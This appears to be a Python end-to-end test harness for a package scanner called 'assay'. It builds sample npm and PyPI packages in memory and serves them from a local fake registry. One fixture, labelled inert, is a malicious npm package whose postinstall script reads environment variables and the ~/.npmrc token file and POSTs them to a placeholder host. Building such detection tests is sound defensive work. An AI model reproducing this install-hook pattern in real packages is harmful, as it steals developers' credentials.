"""The program from the outside: packages made in memory, a registry on loopback, and a machine of
its own for each call, so that no test depends on the one that runs it.

  NAME_test.py PROGRAM SOURCE_ROOT
"""
import base64
import gzip
import hashlib
import http.server
import io
import json
import os
import pathlib
import subprocess
import sys
import tarfile
import tempfile
import threading
import unittest
import zipfile

PROGRAM = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else "assay"
ROOT = pathlib.Path(sys.argv[2] if len(sys.argv) > 2 else ".").resolve()

CLEAN = {
    "package.json": '{"name": "adds", "version": "1.0.0", "description": "Adds numbers", '
                    '"main": "index.js", "repository": "https://code.example.test/adds.git"}',
    "README.md": "# adds\nAdds two numbers, and does nothing else at all.\n",
    "index.js": "module.exports = (a, b) => a + b;\n",
}
# Inert: the names are reserved, and it is only ever read.
THIEF = {
    "package.json": '{"name": "thief", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}',
    "setup.js": "const https = require('https');\n"
                "const fs = require('fs');\n"
                "const os = require('os');\n"
                "const body = JSON.stringify({env: process.env,\n"
                "  npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')});\n"
                "const request = https.request({host: 'collect.example.test', path: '/', method: 'POST'});\n"
                "request.write(body);\n"
                "request.end();\n",
}
CLEAN_PYTHON = {
    "PKG-INFO": "Metadata-Version: 2.1\nName: adds\nVersion: 1.0.0\nSummary: Adds numbers\n"
                "Project-URL: Source, https://code.example.test/adds\n\nAdds numbers, no more.\n",
    "setup.py": "from setuptools import setup\nsetup(name='adds', version='1.0.0', packages=['adds'])\n",
    "adds/__init__.py": "def add(a, b):\n    return a + b\n",
    "README.md": "# adds\nAdds two numbers, and does nothing else at all.\n",
}


def npm_tarball(files):
    return tarball({"package/" + name: text for name, text in files.items()})


def tarball(files):
    """`files`: contents by path, or a tarfile.TarInfo with or without contents."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as packed:
        with tarfile.open(fileobj=packed, mode="w") as tar:
            entries = files.items() if isinstance(files, dict) else files
            for name, contents in entries:
                add_member(tar, name, contents)
    return out.getvalue()


def add_member(tar, name, contents):
    if isinstance(contents, tarfile.TarInfo):
        contents.name = name
        tar.addfile(contents)
        return
    data = contents.encode() if isinstance(contents, str) else contents
    member = tarfile.TarInfo(name)
    member.size = len(data)
    tar.addfile(member, io.BytesIO(data))


def wheel(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(zipfile.ZipInfo(name), text)
    return out.getvalue()


class Result:
    def __init__(self, finished):
        self.code = finished.returncode
        self.out = finished.stdout.decode("utf-8", "replace")
        self.err = finished.stderr.decode("utf-8", "replace")

    def __repr__(self):
        return f"exit code {self.code}\n--- stdout\n{self.out}\n--- stderr\n{self.err}"


class EndToEnd(unittest.TestCase):
    """A folder to work in, and a machine whose user has configured nothing."""

    def setUp(self):
        holder = tempfile.TemporaryDirectory(prefix="assay-")
        self.addCleanup(holder.cleanup)
        self.folder = pathlib.Path(holder.name) / "work"
        self.home = pathlib.Path(holder.name) / "home"
        self.folder.mkdir()
        self.home.mkdir()
        self.variables = {"HOME": str(self.home), "PATH": "/nowhere", "TERM": "xterm", "LC_ALL": "C.UTF-8"}

    def write(self, name, contents):
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(contents.encode() if isinstance(contents, str) else contents)
        return path

    def assay(self, *arguments, **options):
        typed = options.pop("input", "").encode()
        finished = subprocess.run([PROGRAM, *map(str, arguments)], cwd=options.pop("cwd", self.folder),
                                  env=self.variables, input=typed, capture_output=True,
                                  timeout=120, **options)
        return Result(finished)

    def reports(self, *arguments):
        """Of a scan, one by one, whatever its exit code."""
        result = self.assay("scan", "--format", "jsonl", *arguments)
        return [json.loads(line) for line in result.out.splitlines()]

    def check(self, result, code, *parts):
        self.assertEqual(result.code, code, result)
        for part in parts:
            self.assertIn(part, result.out + result.err, result)


class Registry:
    """Serves npm documents and PyPI pages on loopback. `files`: bytes by path."""

    def __init__(self):
        registry = self
        self.pages = {}
        self.requests = []
        self.authorizations = []  # parallel to requests; None where there was none
        self.limited = None       # headers of a 403 that answers everything
        self.arrived = threading.Event()
        self.hangs = False
        self.released = threading.Event()

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self):
                registry.requests.append(self.path)
                registry.authorizations.append(self.headers.get("Authorization"))
                if registry.limited is not None:
                    self.send_response(403)
                    for name, value in {"Content-Length": "0", **registry.limited}.items():
                        self.send_header(name, value)
                    self.end_headers()
                    return
                registry.arrived.set()
                if registry.hangs:
                    registry.released.wait(60)
                kind, body = registry.pages.get(self.path, ("text/plain", None))
                self.send_response(404 if body is None else 200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body or b"")))
                self.end_headers()
                try:
                    self.wfile.write(body or b"")
                except BrokenPipeError:
                    pass  # The test ended the program that asked.

            def log_message(self, *arguments):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.released.set()
        self.server.shutdown()
        self.server.server_close()

    def publish_npm(self, name, version, archive, integrity=None):
        path = f"/{name}/-/{name}-{version}.tgz"
        good = "sha512-" + base64.b64encode(hashlib.sha512(archive).digest()).decode()
        document = {"name": name, "dist-tags": {"latest": version},
                    "versions": {version: {"name": name, "version": version,
                                           "dist": {"tarball": self.url + path,
                                                    "integrity": integrity or good}}}}
        self.pages["/" + name] = ("application/json", json.dumps(document).encode())
        self.pages[path] = ("application/octet-stream", archive)

    def publish_pypi(self, name, archives):
        files = []
        for file_name, archive in archives.items():
            path = f"/files/{file_name}"
            self.pages[path] = ("application/octet-stream", archive)
            files.append({"filename": file_name, "url": self.url + path,
                          "hashes": {"sha256": hashlib.sha256(archive).hexdigest()}})
        page = {"meta": {"api-version": "1.1"}, "name": name, "files": files}
        self.pages[f"/simple/{name}/"] = ("application/vnd.pypi.simple.v1+json", json.dumps(page).encode())


def main():
    unittest.main(argv=sys.argv[:1], verbosity=1)
